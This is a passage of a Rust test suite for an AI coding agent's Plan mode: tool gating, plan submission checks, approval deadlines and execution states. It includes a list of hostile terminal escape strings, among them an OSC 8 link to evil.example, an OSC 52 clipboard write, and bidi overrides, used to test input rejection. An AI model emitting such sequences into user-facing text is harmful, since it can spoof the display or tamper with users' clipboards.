//! One focused test per rule of ADR 0053 that plan-core decides. Each test
//! asserts the exact outcome and, for refusals, that the state is unchanged.

// Test code: a failed expectation should stop the test loudly.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::wildcard_enum_match_arm
)]

#[path = "support/facts.rs"]
mod support;

use plan_core::{
    ApprovalId, ApprovalStatus, Artifact, ArtifactCheck, ArtifactRequest, BootEpoch, ConfigChange, Context,
    Effect, ErrorCode, Event, ExecutionId, ExecutionState, Limits, Mode, Origin, PermissionMode,
    PlanApproval, Reply, RowGuard, Session, SessionId, SessionState, ToolCall, ToolDecision, Transition,
    TurnId, TurnKind, fence_row, handle, startup_fence,
};
use serde_json::json;

/// The host's re-read of `approval`'s artifact found it as submitted.
fn matching_artifact(approval: &PlanApproval) -> plan_core::ArtifactVerification {
    plan_core::ArtifactVerification {
        approval_id: approval.id.clone(),
        result: plan_core::ArtifactCheck::Ok,
        error_code: None,
        detail: None,
    }
}

const T0: i64 = 1_750_000_000_000;
const TTL: i64 = Limits::DEFAULT_APPROVAL_TTL_MS;
const EPOCH: BootEpoch = BootEpoch(7);

/// The shell catalog ids the rule tests' host offers.
const SHELLS: [&str; 2] = ["bash", "zsh"];

fn configure_event(change: ConfigChange) -> Event {
    Event::Configure {
        change,
        shells: SHELLS.iter().map(|id| (*id).to_owned()).collect(),
    }
}

fn context(now: i64) -> Context {
    Context {
        now,
        epoch: EPOCH,
        limits: Limits::default(),
    }
}

fn plan_session() -> SessionState {
    let mut session = Session::new("s1", Some("/home/dev/project".to_owned()));
    session.mode = Mode::Plan;
    SessionState::idle(session)
}

/// `state` with the interactive turn `t1` started at T0.
fn started(state: &SessionState) -> SessionState {
    step(
        state,
        T0,
        Event::StartTurn {
            turn_id: "t1".into(),
            origin: Origin::Interactive,
            mode: None,
        },
    )
}

/// A Plan session whose interactive Plan turn `t1` started at T0.
fn plan_turn() -> SessionState {
    started(&plan_session())
}

/// The decisions for a batch in turn `t1` at T0, with the whole transition.
fn tool_results(state: &SessionState, calls: Vec<ToolCall>) -> (Vec<plan_core::ToolResult>, Transition) {
    let transition = handle(state, &context(T0), support::tool_calls("t1".into(), calls));
    match accepted(&transition) {
        Reply::ToolResults(results) => (results, transition),
        other => panic!("expected tool results, got {other:?}"),
    }
}

fn accepted(transition: &Transition) -> Reply {
    match &transition.reply {
        Ok(reply) => reply.clone(),
        Err(code) => panic!("expected acceptance, got {code}"),
    }
}

/// Asserts a refusal with `code` that changed nothing at all but, for a
/// refused command start, its record.
fn assert_refused_unchanged(state: &SessionState, transition: Transition, code: ErrorCode) {
    assert_eq!(transition.reply, Err(code));
    assert_eq!(
        &transition.state, state,
        "a refused event must not change the state"
    );
    assert!(
        transition
            .effects
            .iter()
            .all(|effect| refusal_record(effect) == Some(code)),
        "a refused event must have no effects but its record: {:?}",
        transition.effects
    );
}

/// The code of a refused command's record (`commandRefused`), if `effect`
/// is one.
fn refusal_record(effect: &Effect) -> Option<ErrorCode> {
    match effect {
        Effect::RecordCommand {
            kind: plan_core::CommandEntryKind::Refused,
            run,
        } => run.error_code,
        _ => None,
    }
}

fn step(state: &SessionState, now: i64, event: Event) -> SessionState {
    let transition = handle(state, &context(now), event);
    accepted(&transition);
    transition.state
}

fn plan_input() -> serde_json::Value {
    json!({"title": "Split the parser", "markdown": "# Plan\r\n\n- step one\n", "question": "Go ahead?"})
}

fn submit_call(input: serde_json::Value) -> ToolCall {
    ToolCall {
        call_id: "c-submit".into(),
        name: "SubmitPlan".to_owned(),
        input,
    }
}

/// A call of `name`; a file-writing one names a file of the workspace.
fn tool(name: &str) -> ToolCall {
    ToolCall {
        call_id: format!("c-{name}").into(),
        name: name.to_owned(),
        input: json!({"path": "f.txt"}),
    }
}

fn artifact() -> Artifact {
    Artifact {
        path: ".pi/plan/20250615T000000Z-split-the-parser-abcd.md".to_owned(),
        sha256: "ab".repeat(32),
        size: 25,
    }
}

/// A Plan turn that has submitted a plan and waits for approval at T0.
fn pending_state() -> (SessionState, ArtifactRequest) {
    let state = plan_turn();
    let transition = handle(
        &state,
        &context(T0),
        support::tool_calls("t1".into(), vec![submit_call(plan_input())]),
    );
    let request = match transition.effects.as_slice() {
        [Effect::WriteArtifact(request)] => request.clone(),
        other => panic!("expected one WriteArtifact effect, got {other:?}"),
    };
    let state = step(
        &transition.state,
        T0,
        Event::ArtifactWritten {
            request: request.clone(),
            approval_id: "a1".into(),
            artifact: artifact(),
        },
    );
    (state, request)
}

fn pending_row(state: &SessionState) -> PlanApproval {
    state.pending_approval.clone().expect("pending approval")
}

fn approve(state: &SessionState, now: i64, mode: Option<PermissionMode>) -> Transition {
    handle(
        state,
        &context(now),
        Event::Approve {
            artifact: matching_artifact(&pending_row(state)),
            approval: pending_row(state),
            permission_mode: mode,
            execution_id: "x1".into(),
            execution_turn_id: "t-exec".into(),
        },
    )
}

fn approved_state(mode: PermissionMode) -> SessionState {
    let (state, _) = pending_state();
    let transition = approve(&state, T0 + 1_000, Some(mode));
    accepted(&transition);
    transition.state
}

// Section 1: one Agent, Plan as its planning state.

#[test]
fn agent_is_the_default_mode_and_ask_the_default_permission() {
    let session = Session::new("s", None);
    assert_eq!(session.mode, Mode::Agent);
    assert_eq!(session.permission_mode, PermissionMode::Ask);
}

#[test]
fn wire_strings_of_modes_are_exact() {
    let modes: Vec<&str> = PermissionMode::ALL.iter().map(|mode| mode.as_str()).collect();
    assert_eq!(modes, ["ask", "accept-edits", "auto"]);
    assert_eq!(PermissionMode::parse("accept_edits"), None);
    assert_eq!(PermissionMode::parse("Ask"), None);
    assert_eq!(Mode::parse("plan"), Some(Mode::Plan));
    assert_eq!(ExecutionState::parse("running"), Some(ExecutionState::Running));
}

#[test]
fn plan_turn_allows_exactly_the_read_only_tools() {
    let state = plan_turn();
    let names = [
        "Read",
        "Glob",
        "Grep",
        "BrowserPreview",
        "Bash",
        "EnterPlanMode",
        "new_context",
        "Write",
        "Edit",
        "mcp__github__create_issue",
        "read",
        "NotARealTool",
    ];
    let (results, transition) = tool_results(&state, names.iter().map(|name| tool(name)).collect());
    let decisions: Vec<(&str, ToolDecision)> = names
        .iter()
        .copied()
        .zip(results.into_iter().map(|result| result.decision))
        .collect();
    let deny = ToolDecision::Deny(ErrorCode::ToolDeniedInPlan);
    assert_eq!(
        decisions,
        [
            ("Read", ToolDecision::Allow),
            ("Glob", ToolDecision::Allow),
            ("Grep", ToolDecision::Allow),
            ("BrowserPreview", ToolDecision::Allow),
            // Plan-mode Bash is run by the host; an empty input is refused
            // as a command input (the command tests cover the rest).
            ("Bash", ToolDecision::Deny(ErrorCode::InvalidCommandInput)),
            ("EnterPlanMode", ToolDecision::Allow),
            ("new_context", ToolDecision::Allow),
            ("Write", deny.clone()),
            ("Edit", deny.clone()),
            ("mcp__github__create_issue", deny.clone()),
            ("read", deny.clone()),
            ("NotARealTool", deny),
        ]
    );
    // Only the refused Bash call's record.
    let records: Vec<_> = transition.effects.iter().map(refusal_record).collect();
    assert_eq!(records, [Some(ErrorCode::InvalidCommandInput)]);
    assert_eq!(transition.state, state, "tool decisions change no state");
}

#[test]
fn submit_plan_with_another_call_refuses_the_whole_batch() {
    let state = plan_turn();
    let transition = handle(
        &state,
        &context(T0),
        support::tool_calls("t1".into(), vec![tool("Read"), submit_call(plan_input())]),
    );
    assert_refused_unchanged(&state, transition, ErrorCode::SubmitPlanNotAlone);
}

#[test]
fn submit_plan_outside_a_plan_turn_is_plan_not_active() {
    let state = started(&SessionState::idle(Session::new("s1", Some("/w".to_owned()))));
    let (results, transition) = tool_results(&state, vec![submit_call(plan_input())]);
    assert_eq!(results[0].decision, ToolDecision::Deny(ErrorCode::PlanNotActive));
    assert!(transition.effects.is_empty());
    assert_eq!(transition.state, state);
}

#[test]
fn tool_calls_without_an_active_turn_are_turn_not_active() {
    let state = plan_session();
    let transition = handle(
        &state,
        &context(T0),
        support::tool_calls("t-none".into(), vec![submit_call(plan_input())]),
    );
    assert_refused_unchanged(&state, transition, ErrorCode::TurnNotActive);
}

#[test]
fn a_scheduled_agent_turn_allows_what_its_mode_grants_and_denies_what_needs_a_person() {
    let mut session = Session::new("s1", Some("/w".to_owned()));
    session.permission_mode = PermissionMode::AcceptEdits;
    let state = step(
        &SessionState::idle(session),
        T0,
        Event::StartTurn {
            turn_id: "t1".into(),
            origin: Origin::Scheduled,
            mode: None,
        },
    );
    let (results, _) = tool_results(&state, vec![tool("Write"), tool("Read"), tool("mcp_deploy")]);
    let decisions: Vec<ToolDecision> = results.into_iter().map(|result| result.decision).collect();
    assert_eq!(
        decisions,
        [
            ToolDecision::Allow,
            ToolDecision::Allow,
            ToolDecision::Deny(ErrorCode::PermissionRequiresInteractiveSession)
        ]
    );
}

// SubmitPlan input.

#[test]
fn submit_plan_input_must_be_exactly_title_markdown_question() {
    let invalid = [
        json!({"title": "t", "markdown": "m"}),
        json!({"title": "t", "markdown": "m", "question": "q", "feedback": "x"}),
        json!({"title": "t", "markdown": "m", "question": 3}),
        json!({"title": "", "markdown": "m", "question": "q"}),
        json!({"title": "t", "markdown": "m", "question": "   "}),
        json!({"title": "t", "markdown": "", "question": "q"}),
        json!({"title": "t", "markdown": "m", "proposedCommands": ["rm"]}),
        json!(["t", "m", "q"]),
        json!(null),
    ];
    let state = plan_turn();
    for input in invalid {
        let transition = handle(
            &state,
            &context(T0),
            support::tool_calls("t1".into(), vec![submit_call(input.clone())]),
        );
        let Reply::ToolResults(results) = accepted(&transition) else {
            panic!("expected tool results");
        };
        assert_eq!(
            results[0].decision,
            ToolDecision::Deny(ErrorCode::InvalidPlanInput),
            "input {input}"
        );
        assert!(transition.effects.is_empty(), "input {input}");
        assert_eq!(
            transition.state, state,
            "the Plan turn stays active and unchanged"
        );
    }
}

/// A title and a question have a length bound in characters (a person reads
/// them on a card and in a terminal): at the bound accepted, one past it
/// `INVALID_PLAN_INPUT`, and a 100,000-character title is refused.
#[test]
fn submit_plan_title_and_question_have_a_length_bound() {
    let state = plan_turn();
    let decide = |title: &str, question: &str| {
        let input = json!({"title": title, "markdown": "m", "question": question});
        let (results, transition) = tool_results(&state, vec![submit_call(input)]);
        (results[0].decision.clone(), transition.effects.len())
    };
    let title_max = plan_core::SUBMIT_PLAN_TITLE_MAX_CHARS;
    let question_max = plan_core::SUBMIT_PLAN_QUESTION_MAX_CHARS;
    // Characters, not bytes: a bound of "é"s is still accepted.
    assert_eq!(decide(&"é".repeat(title_max), "q").0, ToolDecision::WriteArtifact);
    assert_eq!(
        decide("t", &"é".repeat(question_max)).0,
        ToolDecision::WriteArtifact
    );
    for (title, question) in [
        ("t".repeat(title_max + 1), "q".to_owned()),
        ("t".repeat(100_000), "q".to_owned()),
        ("t".to_owned(), "q".repeat(question_max + 1)),
    ] {
        assert_eq!(
            decide(&title, &question),
            (ToolDecision::Deny(ErrorCode::InvalidPlanInput), 0),
            "title of {} and question of {} characters",
            title.chars().count(),
            question.chars().count()
        );
    }
}

/// The hostile characters of the review spec, each refused in a title and
/// in a question, and kept byte for byte in the Markdown.
const HOSTILE: [&str; 12] = [
    "\u{1b}[1A\u{1b}[2K",                     // cursor up, erase line
    "\u{1b}]8;;https://evil.example\u{1b}\\", // OSC 8 hyperlink
    "\u{1b}]52;c;Y3VybA==\u{7}",              // OSC 52 clipboard write
    "\u{7}",                                  // BEL
    "\u{9b}2K",                               // C1 CSI
    "\u{7f}",                                 // DEL
    "\u{202e}",                               // right-to-left override
    "\u{2066}",                               // left-to-right isolate
    "\t",                                     // tab: a title is one table cell
    "\n",
    "\r",
    "\u{0}",
];

#[test]
fn submit_plan_refuses_control_and_bidi_characters_in_title_and_question() {
    let state = plan_turn();
    let decide = |input: serde_json::Value| {
        let (results, transition) = tool_results(&state, vec![submit_call(input)]);
        (results[0].decision.clone(), transition.effects.is_empty())
    };
    for hostile in HOSTILE {
        let title = format!("Split{hostile} the parser");
        let refused = decide(json!({"title": title, "markdown": "m", "question": "Proceed?"}));
        assert_eq!(
            refused,
            (ToolDecision::Deny(ErrorCode::InvalidPlanInput), true),
            "title {title:?}"
        );
        let question = format!("Proceed{hostile}?");
        let refused = decide(json!({"title": "t", "markdown": "m", "question": question}));
        assert_eq!(
            refused,
            (ToolDecision::Deny(ErrorCode::InvalidPlanInput), true),
            "question {question:?}"
        );
        // The Markdown is kept byte for byte: the same text passes there.
        let markdown = format!("1. Read{hostile}\n");
        let transition = handle(
            &state,
            &context(T0),
            support::tool_calls(
                "t1".into(),
                vec![submit_call(
                    json!({"title": "t", "markdown": markdown, "question": "q"}),
                )],
            ),
        );
        let written = transition.effects.iter().find_map(|effect| match effect {
            Effect::WriteArtifact(request) => Some(request.markdown.clone()),
            Effect::InsertApproval(_)
            | Effect::UpdateApproval { .. }
            | Effect::SaveSession(_)
            | Effect::RecordToolAudit(_)
            | Effect::RecordCommand { .. }
            | Effect::BindWorkspace { .. }
            | Effect::CancelCommand { .. } => None,
        });
        assert_eq!(
            written.as_deref(),
            Some(markdown.as_str()),
            "markdown {markdown:?}"
        );
    }
    // Text a person can read passes: accents, CJK, emoji, a ZWJ sequence.
    let readable =
        decide(json!({"title": "Découper 解析器 🚀 👩\u{200d}💻", "markdown": "m", "question": "OK?"}));
    assert_eq!(readable, (ToolDecision::WriteArtifact, false));
}

#[test]
fn terminal_controls_are_exactly_the_c0_c1_del_and_bidi_controls() {
    let controls: Vec<u32> = (0..=0x10ffff_u32)
        .filter_map(char::from_u32)
        .filter(|c| plan_core::is_terminal_control(*c))
        .map(u32::from)
        .collect();
    let mut expected: Vec<u32> = (0..=0x1f).chain(0x7f..=0x9f).collect();
    expected.extend([0x61c, 0x200e, 0x200f]);
    expected.extend(0x2028..=0x202e);
    expected.extend(0x2066..=0x2069);
    assert_eq!(controls, expected);
    assert!(plan_core::is_plain_line("Split the parser (v2) — 解析器"));
    assert!(!plan_core::is_plain_line("a\tb"));
}

#[test]
fn submit_plan_markdown_over_the_limit_is_invalid_and_at_the_limit_is_fine() {
    let state = plan_turn();
    let limits = Limits::new(TTL, 8).unwrap();
    let run = |markdown: &str| {
        let transition = handle(
            &state,
            &Context {
                now: T0,
                epoch: EPOCH,
                limits: limits.clone(),
            },
            support::tool_calls(
                "t1".into(),
                vec![submit_call(
                    json!({"title": "t", "markdown": markdown, "question": "q"}),
                )],
            ),
        );
        match accepted(&transition) {
            Reply::ToolResults(results) => results[0].decision.clone(),
            other => panic!("unexpected {other:?}"),
        }
    };
    // "é" is two bytes: the limit counts bytes, not characters.
    assert_eq!(run("ééé"), ToolDecision::WriteArtifact);
    assert_eq!(run("éééé"), ToolDecision::WriteArtifact);
    assert_eq!(run("éééé!"), ToolDecision::Deny(ErrorCode::InvalidPlanInput));
}

#[test]
fn submit_plan_in_a_session_without_workspace_is_not_project_bound() {
    let mut session = Session::new("s1", None);
    session.mode = Mode::Plan;
    let state = started(&SessionState::idle(session));
    let (results, transition) = tool_results(&state, vec![submit_call(plan_input())]);
    assert_eq!(
        results[0].decision,
        ToolDecision::Deny(ErrorCode::SessionNotProjectBound)
    );
    assert!(transition.effects.is_empty());
}

// Section 2 as plan-core sees it: only a reported write creates the approval.

#[test]
fn valid_submission_asks_for_the_exact_markdown_and_creates_nothing_yet() {
    let state = plan_turn();
    let transition = handle(
        &state,
        &context(T0),
        support::tool_calls("t1".into(), vec![submit_call(plan_input())]),
    );
    assert_eq!(
        transition.effects,
        [Effect::WriteArtifact(ArtifactRequest {
            session_id: "s1".into(),
            turn_id: "t1".into(),
            call_id: "c-submit".into(),
            workspace_root: "/home/dev/project".to_owned(),
            title: "Split the parser".to_owned(),
            question: "Go ahead?".to_owned(),
            markdown: "# Plan\r\n\n- step one\n".to_owned(),
        })]
    );
    assert_eq!(transition.state.pending_approval, None);
}

#[test]
fn reported_artifact_creates_the_pending_approval_with_an_absolute_deadline() {
    let (state, _) = pending_state();
    let approval = pending_row(&state);
    assert_eq!(approval.status, ApprovalStatus::Pending);
    assert_eq!(approval.created_at, T0);
    assert_eq!(approval.expires_at, T0 + 1_800_000);
    assert_eq!(approval.artifact, Some(artifact()));
    assert_eq!(approval.title, "Split the parser");
    assert_eq!(approval.question, "Go ahead?");
    assert_eq!(approval.permission_mode, None);
    assert_eq!(approval.execution_id, None);
    assert_eq!(state.next_deadline(), Some(T0 + 1_800_000));
    state.check_invariants().unwrap();
}

#[test]
fn failed_artifact_write_creates_no_approval_and_keeps_the_turn() {
    let state = plan_turn();
    let request = match handle(
        &state,
        &context(T0),
        support::tool_calls("t1".into(), vec![submit_call(plan_input())]),
    )
    .effects
    .as_slice()
    {
        [Effect::WriteArtifact(request)] => request.clone(),
        other => panic!("unexpected {other:?}"),
    };
    for code in [
        ErrorCode::ArtifactPathEscape,
        ErrorCode::ArtifactSymlink,
        ErrorCode::ArtifactWriteFailed,
    ] {
        let transition = handle(
            &state,
            &context(T0),
            Event::ArtifactFailed {
                request: request.clone(),
                code,
            },
        );
        let Reply::ToolResults(results) = accepted(&transition) else {
            panic!("expected tool results");
        };
        assert_eq!(results[0].decision, ToolDecision::Deny(code));
        assert!(transition.effects.is_empty());
        assert_eq!(transition.state, state);
        assert_eq!(transition.state.pending_approval, None);
        assert_eq!(transition.state.live_execution, None);
    }
}

// Section 3: approval and permission selection.

#[test]
fn approve_requires_an_explicit_permission_mode() {
    let (state, _) = pending_state();
    let transition = approve(&state, T0 + 1, None);
    assert_refused_unchanged(&state, transition, ErrorCode::PermissionModeRequired);
}

/// Approving needs the plan as submitted: each finding of the host's
/// re-read refuses with its code and changes nothing; a finding about
/// another approval is the host's bug; Reject needs no finding at all.
#[test]
fn approve_refuses_a_plan_that_no_longer_matches_and_reject_stays_possible() {
    let (state, _) = pending_state();
    let finding = |result, error_code| plan_core::ArtifactVerification {
        approval_id: pending_row(&state).id,
        result,
        error_code,
        detail: Some("what was found".to_owned()),
    };
    let cases = [
        (
            finding(ArtifactCheck::Missing, Some(ErrorCode::ArtifactMissing)),
            ErrorCode::ArtifactMissing,
        ),
        (finding(ArtifactCheck::Legacy, None), ErrorCode::ArtifactMissing),
        (
            finding(
                ArtifactCheck::Mismatch,
                Some(ErrorCode::ArtifactIntegrityMismatch),
            ),
            ErrorCode::ArtifactIntegrityMismatch,
        ),
        (
            finding(ArtifactCheck::Unreadable, Some(ErrorCode::ArtifactSymlink)),
            ErrorCode::ArtifactSymlink,
        ),
        (
            finding(ArtifactCheck::Unreadable, None),
            ErrorCode::ArtifactIntegrityMismatch,
        ),
        (
            plan_core::ArtifactVerification {
                approval_id: "another".into(),
                ..matching_artifact(&pending_row(&state))
            },
            ErrorCode::Internal,
        ),
    ];
    for (artifact, code) in cases {
        let transition = handle(
            &state,
            &context(T0 + 1_000),
            Event::Approve {
                approval: pending_row(&state),
                permission_mode: Some(PermissionMode::Auto),
                execution_id: "x1".into(),
                execution_turn_id: "t-exec".into(),
                artifact,
            },
        );
        assert_refused_unchanged(&state, transition, code);
    }
    let rejected = handle(
        &state,
        &context(T0 + 1_000),
        Event::Reject {
            approval: pending_row(&state),
        },
    );
    accepted(&rejected);
}

#[test]
fn approve_switches_to_agent_with_the_mode_and_queues_one_execution() {
    for mode in PermissionMode::ALL.iter().copied() {
        let (state, _) = pending_state();
        let before = pending_row(&state);
        let transition = approve(&state, T0 + 5, Some(mode));
        let Reply::Decided(approved) = accepted(&transition) else {
            panic!("expected a decision");
        };
        assert_eq!(approved.status, ApprovalStatus::Approved);
        assert_eq!(approved.permission_mode, Some(mode));
        assert_eq!(approved.execution_id, Some("x1".into()));
        assert_eq!(approved.execution_state, Some(ExecutionState::Queued));
        assert_eq!(approved.decided_at, Some(T0 + 5));
        assert_eq!(approved.expires_at, before.expires_at);
        let next = &transition.state;
        assert_eq!(next.session.mode, Mode::Agent);
        assert_eq!(next.session.permission_mode, mode);
        assert_eq!(next.pending_approval, None);
        assert_eq!(next.live_execution.as_ref(), Some(&approved));
        let turn = next.active_turn.clone().unwrap();
        assert_eq!(
            (turn.kind, turn.mode, turn.turn_id.as_str()),
            (TurnKind::Execution, Mode::Agent, "t-exec")
        );
        // Both changes land in one transaction: the row update (guarded) and the session.
        assert_eq!(
            transition.effects,
            [
                Effect::UpdateApproval {
                    approval: approved.clone(),
                    expected: RowGuard {
                        status: ApprovalStatus::Pending,
                        execution_state: None,
                    },
                },
                Effect::SaveSession(next.session.clone()),
            ]
        );
        next.check_invariants().unwrap();
    }
}

#[test]
fn reject_is_terminal_grants_no_mode_and_leaves_the_session_idle_in_plan() {
    let (state, _) = pending_state();
    let transition = handle(
        &state,
        &context(T0 + 10),
        Event::Reject {
            approval: pending_row(&state),
        },
    );
    let Reply::Decided(rejected) = accepted(&transition) else {
        panic!("expected a decision");
    };
    assert_eq!(rejected.status, ApprovalStatus::Rejected);
    assert_eq!(rejected.permission_mode, None);
    assert_eq!(rejected.execution_id, None);
    assert_eq!(rejected.execution_state, None);
    assert_eq!(
        transition.state.session, state.session,
        "reject changes no session setting"
    );
    assert_eq!(transition.state.session.mode, Mode::Plan);
    assert!(transition.state.is_idle());
    // Terminal: neither approve nor reject can act on it again.
    let again = handle(
        &transition.state,
        &context(T0 + 11),
        Event::Approve {
            artifact: matching_artifact(&rejected),
            approval: rejected.clone(),
            permission_mode: Some(PermissionMode::Auto),
            execution_id: "x2".into(),
            execution_turn_id: "t2".into(),
        },
    );
    assert_refused_unchanged(&transition.state, again, ErrorCode::ApprovalNotPending);
    let again = handle(
        &transition.state,
        &context(T0 + 11),
        Event::Reject { approval: rejected },
    );
    assert_refused_unchanged(&transition.state, again, ErrorCode::ApprovalNotPending);
}

#[test]
fn a_withdrawn_plan_is_interrupted_undecided_and_can_no_longer_be_approved() {
    let (state, _) = pending_state();
    let transition = handle(
        &state,
        &context(T0 + 10),
        Event::WithdrawPlan {
            approval: pending_row(&state),
        },
    );
    let Reply::Decided(withdrawn) = accepted(&transition) else {
        panic!("expected a decision");
    };
    assert_eq!(withdrawn.status, ApprovalStatus::Interrupted);
    assert_eq!(withdrawn.error_code, Some(ErrorCode::PlanWithdrawn));
    assert_eq!(withdrawn.decided_at, Some(T0 + 10));
    assert_eq!(
        (withdrawn.permission_mode, withdrawn.execution_id.clone()),
        (None, None)
    );
    assert_eq!(
        transition.effects,
        [Effect::UpdateApproval {
            approval: withdrawn.clone(),
            expected: RowGuard {
                status: ApprovalStatus::Pending,
                execution_state: None,
            },
        }]
    );
    // The session may plan again; nobody may decide the plan any more.
    assert_eq!(transition.state.session, state.session);
    assert!(transition.state.is_idle());
    transition.state.check_invariants().unwrap();
    let approve = handle(
        &transition.state,
        &context(T0 + 11),
        Event::Approve {
            artifact: matching_artifact(&withdrawn),
            approval: withdrawn.clone(),
            permission_mode: Some(PermissionMode::Auto),
            execution_id: "x2".into(),
            execution_turn_id: "t2".into(),
        },
    );
    assert_refused_unchanged(&transition.state, approve, ErrorCode::ApprovalNotPending);
    for event in [
        Event::Reject {
            approval: withdrawn.clone(),
        },
        Event::WithdrawPlan { approval: withdrawn },
    ] {
        let again = handle(&transition.state, &context(T0 + 11), event);
        assert_refused_unchanged(&transition.state, again, ErrorCode::ApprovalNotPending);
    }
    // One that ran out of time is expired, not withdrawn.
    let late = handle(
        &state,
        &context(pending_row(&state).expires_at),
        Event::WithdrawPlan {
            approval: pending_row(&state),
        },
    );
    assert_eq!(late.reply, Err(ErrorCode::PlanApprovalTimeout));
}

#[test]
fn approval_actions_are_the_only_controls_while_pending() {
    let (state, _) = pending_state();
    let refusals = [
        Event::StartTurn {
            turn_id: "t2".into(),
            origin: Origin::Interactive,
            mode: None,
        },
        support::tool_calls("t1".into(), vec![tool("Read")]),
        support::tool_calls("t1".into(), vec![submit_call(plan_input())]),
        configure_event(ConfigChange {
            model: Some(Some("other".to_owned())),
            ..ConfigChange::default()
        }),
        Event::CompleteTurn { turn_id: "t1".into() },
        Event::CancelTurn,
    ];
    for event in refusals {
        let transition = handle(&state, &context(T0 + 1), event.clone());
        assert_refused_unchanged(&state, transition, ErrorCode::SessionBusy);
    }
}

// Deadline.

#[test]
fn approve_at_the_deadline_is_refused_and_the_approval_expires() {
    let (state, _) = pending_state();
    let deadline = pending_row(&state).expires_at;
    let transition = approve(&state, deadline, Some(PermissionMode::Auto));
    assert_eq!(transition.reply, Err(ErrorCode::PlanApprovalTimeout));
    let [Effect::UpdateApproval { approval, expected }] = transition.effects.as_slice() else {
        panic!("expected only the expiry update, got {:?}", transition.effects);
    };
    assert_eq!(approval.status, ApprovalStatus::Expired);
    assert_eq!(approval.error_code, Some(ErrorCode::PlanApprovalTimeout));
    assert_eq!(approval.decided_at, Some(deadline));
    assert_eq!(approval.permission_mode, None);
    assert_eq!(expected.status, ApprovalStatus::Pending);
    assert_eq!(transition.state.session.mode, Mode::Plan, "no mode was granted");
    assert_eq!(transition.state.session.permission_mode, PermissionMode::Ask);
    assert!(transition.state.is_idle());
}

#[test]
fn approve_one_millisecond_before_the_deadline_is_accepted() {
    let (state, _) = pending_state();
    let deadline = pending_row(&state).expires_at;
    accepted(&approve(&state, deadline - 1, Some(PermissionMode::Ask)));
}

#[test]
fn approving_an_already_expired_row_is_plan_approval_timeout() {
    let (state, _) = pending_state();
    let row = pending_row(&state);
    let expired_state = step(&state, row.expires_at + 5, Event::Tick);
    let mut stored = row;
    stored.status = ApprovalStatus::Expired;
    stored.error_code = Some(ErrorCode::PlanApprovalTimeout);
    let transition = handle(
        &expired_state,
        &context(T0 + 3 * TTL),
        Event::Approve {
            artifact: matching_artifact(&stored),
            approval: stored,
            permission_mode: Some(PermissionMode::Auto),
            execution_id: "x".into(),
            execution_turn_id: "t".into(),
        },
    );
    assert_refused_unchanged(&expired_state, transition, ErrorCode::PlanApprovalTimeout);
}

#[test]
fn tick_expires_at_the_deadline_and_never_moves_it() {
    let (state, _) = pending_state();
    let deadline = pending_row(&state).expires_at;
    let early = handle(&state, &context(deadline - 1), Event::Tick);
    assert_eq!(early.state, state);
    assert!(early.effects.is_empty());
    let due = handle(&state, &context(deadline), Event::Tick);
    assert_eq!(due.reply, Ok(Reply::Ticked));
    let [Effect::UpdateApproval { approval, .. }] = due.effects.as_slice() else {
        panic!("expected the expiry update");
    };
    assert_eq!(approval.status, ApprovalStatus::Expired);
    assert_eq!(approval.expires_at, deadline);
    assert_eq!(due.state.next_deadline(), None);
    assert_eq!(due.state.session.mode, Mode::Plan);
    assert!(due.state.is_idle(), "expiry ends the Plan turn");
}

#[test]
fn deadline_uses_the_configured_ttl() {
    let state = plan_turn();
    let limits = Limits::new(250, 100).unwrap();
    let short = |now| Context {
        now,
        epoch: EPOCH,
        limits: limits.clone(),
    };
    let transition = handle(
        &state,
        &short(T0),
        support::tool_calls("t1".into(), vec![submit_call(plan_input())]),
    );
    let [Effect::WriteArtifact(request)] = transition.effects.as_slice() else {
        panic!("expected a write");
    };
    let written = handle(
        &transition.state,
        &short(T0 + 40),
        Event::ArtifactWritten {
            request: request.clone(),
            approval_id: "a".into(),
            artifact: artifact(),
        },
    );
    assert_eq!(written.state.next_deadline(), Some(T0 + 40 + 250));
}

// Execution.

#[test]
fn execution_runs_queued_then_running_then_completed_and_ends_the_turn() {
    let state = approved_state(PermissionMode::AcceptEdits);
    let start = handle(
        &state,
        &context(T0 + 2_000),
        Event::StartExecution {
            execution_id: "x1".into(),
            epoch: EPOCH,
        },
    );
    let Reply::ExecutionChanged(running) = accepted(&start) else {
        panic!("expected an execution change");
    };
    assert_eq!(running.execution_state, Some(ExecutionState::Running));
    let again = handle(
        &start.state,
        &context(T0 + 2_001),
        Event::StartExecution {
            execution_id: "x1".into(),
            epoch: EPOCH,
        },
    );
    assert_refused_unchanged(&start.state, again, ErrorCode::ExecutionNotActive);
    let done = handle(
        &start.state,
        &context(T0 + 3_000),
        Event::CompleteExecution {
            execution_id: "x1".into(),
            epoch: EPOCH,
        },
    );
    let Reply::ExecutionChanged(completed) = accepted(&done) else {
        panic!("expected an execution change");
    };
    assert_eq!(completed.execution_state, Some(ExecutionState::Completed));
    assert!(done.state.is_idle());
    assert_eq!(done.state.session.mode, Mode::Agent, "no automatic Plan re-entry");
}

#[test]
fn completing_a_queued_execution_is_not_active() {
    let state = approved_state(PermissionMode::Ask);
    let transition = handle(
        &state,
        &context(T0 + 2_000),
        Event::CompleteExecution {
            execution_id: "x1".into(),
            epoch: EPOCH,
        },
    );
    assert_refused_unchanged(&state, transition, ErrorCode::ExecutionNotActive);
    let unknown = handle(
        &state,
        &context(T0 + 2_000),
        Event::StartExecution {
            execution_id: "x-other".into(),
            epoch: EPOCH,
        },
    );
    assert_refused_unchanged(&state, unknown, ErrorCode::ExecutionNotActive);
}

#[test]
fn a_report_from_an_older_boot_epoch_is_refused() {
    let state = approved_state(PermissionMode::Auto);
    let transition = handle(
        &state,
        &context(T0 + 2_000),
        Event::StartExecution {
            execution_id: "x1".into(),
            epoch: BootEpoch(EPOCH.0 - 1),
        },
    );
    assert_refused_unchanged(&state, transition, ErrorCode::HostRestarted);
}

#[test]
fn second_prompt_or_plan_run_or_configuration_while_executing_is_busy() {
    let state = approved_state(PermissionMode::Auto);
    for event in [
        Event::StartTurn {
            turn_id: "t9".into(),
            origin: Origin::Interactive,
            mode: None,
        },
        configure_event(ConfigChange {
            mode: Some(Mode::Plan),
            ..ConfigChange::default()
        }),
        configure_event(ConfigChange {
            shell: Some(Some("zsh".to_owned())),
            ..ConfigChange::default()
        }),
        Event::CompleteTurn {
            turn_id: "t-exec".into(),
        },
    ] {
        let transition = handle(&state, &context(T0 + 2_000), event);
        assert_refused_unchanged(&state, transition, ErrorCode::SessionBusy);
    }
}

#[test]
fn cancel_interrupts_the_execution_and_leaves_the_session_in_agent() {
    let state = approved_state(PermissionMode::Auto);
